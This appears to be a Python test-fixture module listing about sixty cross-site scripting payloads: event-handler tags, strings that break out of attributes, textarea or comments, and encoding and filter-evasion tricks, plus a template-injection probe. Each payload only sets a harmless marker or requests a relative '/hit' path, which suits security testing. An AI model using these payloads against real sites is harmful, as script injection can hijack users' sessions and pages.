"""Texts that run a script, or call somewhere, wherever a page takes them for more than text. Each
sets `window.hit` or asks for `/hit`."""

# ruff: noqa: E501

_RUN = "window.hit=1"
_HANDLERS = (
    "<img src=/hit onerror={run}>", "<svg onload={run}>", "<svg/onload={run}//", "<body onload={run}>",
    "<input autofocus onfocus={run}>", "<details open ontoggle={run}>", "<video src=/hit onerror={run}>",
    "<audio src=/hit onerror={run}>", "<iframe src=/hit onload={run}>", "<marquee onstart={run}>",
    "<select autofocus onfocus={run}>", "<textarea autofocus onfocus={run}>", "<math><mi xlink:href=/hit>",
    "<object data=/hit onerror={run}>", "<embed src=/hit>", "<style onload={run}></style>",
    "<link rel=stylesheet href=/hit onerror={run}>", "<a href=javascript:{run} autofocus>x</a>",
    "<form action=/hit><button autofocus formaction=javascript:{run}>", "<base href=/hit/>",
    "<meta http-equiv=refresh content='0;url=/hit'>", "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>", "<svg><use href=/hit#x></svg>",
    "<svg><a xlink:href=javascript:{run}><text>x</text></a></svg>", "<template><img src=/hit></template>",
    "<noscript><p title='</noscript><img src=/hit onerror={run}>'>", "<image src=/hit onerror={run}>",
    "<keygen autofocus onfocus={run}>", "<isindex type=image src=/hit onerror={run}>",
)  # fmt: skip
_BREAKS = (
    '"><script>{run}</script>', "'><script>{run}</script>", "</script><script>{run}</script>",
    "</title><script>{run}</script>", "</textarea><script>{run}</script>", "--><script>{run}</script>",
    "]]><script>{run}</script>", '" onmouseover="{run}" x="', "' onfocus='{run}' autofocus x='",
    "</style><script>{run}</script>", "</pre><script>{run}</script>", "</svg><script>{run}</script>",
    "</code></pre><img src=/hit onerror={run}>", '"/><img src=/hit onerror="{run}"/>',
    "<scr\0ipt>{run}</scr\0ipt>", "<scr<script>ipt>{run}</scr</script>ipt>", "<SCRIPT>{run}</SCRIPT>",
    "<script src=/hit></script>", "<script\n>{run}</script\n>", "\u2028<script>{run}</script>",
    "&lt;script&gt;{run}&lt;/script&gt;", "&#60;img src=/hit onerror={run}&#62;",
    "%3Cscript%3E{run}%3C/script%3E", "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "{{{{ cycler.__init__.__globals__ }}}}", "{{% raw %}}<script>{run}</script>", "${{{run}}}",
    "\u202e<script>{run}</script>", "data: x\n\nevent: run\ndata: <img src=/hit onerror={run}>",
    "javascript:{run}//<!--<img src=/hit onerror={run}>",
)  # fmt: skip

PAYLOADS = [text.format(run=_RUN) for text in _HANDLERS + _BREAKS]
